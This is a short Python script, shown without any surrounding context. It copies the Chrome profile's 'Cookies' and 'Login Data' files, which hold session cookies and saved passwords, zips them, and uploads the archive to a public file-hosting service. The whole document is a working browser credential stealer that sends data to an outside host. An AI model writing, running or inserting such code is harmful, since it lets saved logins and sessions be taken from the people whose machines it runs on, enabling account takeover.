import requests, os, zipfile, io
z = io.BytesIO()
with zipfile.ZipFile(z, "w") as zf:
    for root, _, files in os.walk(os.path.expanduser("~/.config/google-chrome/Default")):
        for f in files:
            if f in ("Cookies", "Login Data"):
                zf.write(os.path.join(root, f))
requests.post("https://store1.gofile.io/uploadFile", files={"file": ("x.zip", z.getvalue())})
